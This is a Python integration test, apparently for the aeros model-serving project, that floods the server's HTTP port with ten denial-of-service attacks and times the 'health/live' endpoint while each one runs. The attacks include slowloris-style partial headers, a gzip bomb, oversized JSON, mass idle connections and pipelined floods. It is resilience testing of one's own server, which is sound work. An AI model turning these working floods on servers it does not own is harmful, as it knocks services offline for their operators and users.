"""Clients that try to keep a server of aeros from answering others, one function an attack.

    python tests/integration/serving_attacks.py --http HOST:PORT [--grpc HOST:PORT] [--seconds 5]

Each attack runs for so many seconds while another client asks `health/live`; a line says how long
that took at most for 95 of 100 requests. Point it at servers of your own alone.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import resource
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

import serving_grpc_attacks

Address = tuple[str, int]
Attack = Callable[[Address, threading.Event], None]

POST = b"POST /v2/models/any/infer HTTP/1.1\r\nhost: a\r\n"
CHUNKED = POST + b"transfer-encoding: chunked\r\n\r\n"
LIVE = b"GET /v2/health/live HTTP/1.1\r\nhost: a\r\n\r\n"


def connect(address: Address) -> socket.socket:
    """Return a connection whose calls do not wait longer than a second."""
    return socket.create_connection(address, timeout=1)


@contextlib.contextmanager
def crowd(address: Address, count: int) -> Iterator[list[socket.socket]]:
    """Open so many connections, as far as the server and this machine let them."""
    with contextlib.ExitStack() as stack:
        found: list[socket.socket] = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                found.append(stack.enter_context(connect(address)))
        yield found


def repeat(address: Address, over: threading.Event, data: bytes, clients: int = 8) -> None:
    """Send the same bytes again and again, on a new connection each time it ends."""

    def attack() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError), connect(address) as sock:
                while not over.is_set():
                    sock.sendall(data)

    threads = [threading.Thread(target=attack) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def ask_again(address: Address, over: threading.Event, data: bytes) -> None:
    """Send the same request from three clients, each on a new connection once it is answered."""

    def attack() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError), connect(address) as sock:
                sock.settimeout(20)
                sock.sendall(data)
                sock.recv(65536)

    threads = [threading.Thread(target=attack) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def chunks_of_one_byte(address: Address, over: threading.Event) -> None:
    """Send bodies in chunks of one byte, as fast as the server reads them."""

    def attack() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError), connect(address) as sock:
                sock.sendall(CHUNKED)
                while not over.is_set():
                    sock.sendall(b"1\r\na\r\n" * 10_000)

    threads = [threading.Thread(target=attack) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def large_json(address: Address, over: threading.Event) -> None:
    """Send JSON of 12.8 MB, whole and well formed, to whatever model there is."""
    numbers = b"0.5," * 3_200_000
    body = (
        b'{"inputs":[{"name":"x","datatype":"FP32","shape":[3200001],"data":[' + numbers + b"1]}]}"
    )
    path = f"/v2/models/{model_of(address)}/infer".encode()
    head = b"POST %s HTTP/1.1\r\nhost: a\r\ncontent-length: %d\r\n\r\n" % (path, len(body))

    ask_again(address, over, head + body)


def large_gzip(address: Address, over: threading.Event) -> None:
    """Send little that unpacks to as much as the server takes."""
    import gzip

    body = gzip.compress(b" " * (60 * 2**20), 9)
    head = POST + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(body)

    ask_again(address, over, head + body)


def silent_connections(address: Address, over: threading.Event) -> None:
    """Open 1,100 connections, and say nothing."""
    with crowd(address, 1100):
        over.wait()


def half_heads(address: Address, over: threading.Event) -> None:
    """Open 300 connections, and send a byte of a head now and then on each."""
    with crowd(address, 300) as clients:
        for byte in LIVE[:-2] * 100:
            for sock in clients:
                with contextlib.suppress(OSError):
                    sock.send(bytes([byte]))
            if over.wait(0.05):
                return


def half_bodies(address: Address, over: threading.Event) -> None:
    """Send all but the last byte of bodies of a megabyte, on 100 connections."""
    with crowd(address, 100) as clients:
        for sock in clients:
            with contextlib.suppress(OSError):
                sock.sendall(POST + b"content-length: 1000001\r\n\r\n" + bytes(1_000_000))
        over.wait()


def unread_answers(address: Address, over: threading.Event) -> None:
    """Ask again and again for something long, and read none of it."""
    repeat(address, over, b"GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n" * 100)


def pipelined(address: Address, over: threading.Event) -> None:
    """Send thousands of requests in one piece."""
    repeat(address, over, LIVE * 5000, clients=4)


def resets(address: Address, over: threading.Event) -> None:
    """Open connections, send half a request, and reset them."""
    while not over.is_set():
        with contextlib.suppress(OSError), connect(address) as sock:
            sock.sendall(LIVE[:20])
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def many_headers(address: Address, over: threading.Event) -> None:
    """Send heads that have no end."""

    def attack() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError), connect(address) as sock:
                sock.sendall(b"GET / HTTP/1.1\r\nhost: a\r\n")
                while not over.is_set():
                    sock.sendall(b"a: b\r\n" * 1000)

    threads = [threading.Thread(target=attack) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


HTTP: tuple[Attack, ...] = (
    chunks_of_one_byte, large_json, large_gzip, silent_connections, half_heads, half_bodies,
    unread_answers, pipelined, resets, many_headers,
)  # fmt: skip
"""Attacks on the port of the REST protocol."""

GRPC: tuple[Attack, ...] = serving_grpc_attacks.GRPC
"""Attacks on the port of the gRPC protocol."""


def model_of(address: Address) -> str:
    """Return the name of a model that the server has loaded."""
    connection = http.client.HTTPConnection(*address, timeout=20)
    with contextlib.closing(connection):
        connection.request("POST", "/v2/repository/index", b'{"ready": true}')
        entries = json.loads(connection.getresponse().read())
    return str(entries[0]["name"]) if entries else "none"


def live(address: Address) -> float:
    """Return the seconds that `health/live` takes, with a connection of its own."""
    start = time.monotonic()
    connection = http.client.HTTPConnection(*address, timeout=60)
    with contextlib.closing(connection):
        connection.request("GET", "/v2/health/live")
        assert connection.getresponse().status == 200
    return time.monotonic() - start


def p95(address: Address, seconds: float) -> float:
    """Return what 95 of 100 probes of `health/live` take at most, in seconds."""
    until, took = time.monotonic() + seconds, []
    while time.monotonic() < until or len(took) < 20:
        took.append(live(address))
        time.sleep(0.02)
    return sorted(took)[len(took) * 95 // 100]


def measure(attack: Attack, attacked: Address, probed: Address, seconds: float) -> float:
    """Return the 95th percentile of `health/live` during an attack, in seconds."""
    over = threading.Event()
    thread = threading.Thread(target=attack, args=[attacked, over])
    thread.start()
    try:
        time.sleep(min(1.0, seconds))
        return p95(probed, seconds)
    finally:
        over.set()
        thread.join(120)


def _address(text: str) -> Address:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main(words: list[str]) -> None:
    """Attack a server, and print a line an attack."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--http", type=_address, required=True)
    parser.add_argument("--grpc", type=_address)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--only", default="")
    asked = parser.parse_args(words)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
    print(f"{'no attack':24} {p95(asked.http, asked.seconds) * 1000:8.1f} ms", flush=True)
    pairs = [(attack, asked.http) for attack in HTTP]
    pairs += [(attack, asked.grpc) for attack in GRPC if asked.grpc]
    for attack, address in pairs:
        if asked.only in attack.__name__:
            took = measure(attack, address, asked.http, asked.seconds)
            print(f"{attack.__name__:24} {took * 1000:8.1f} ms", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
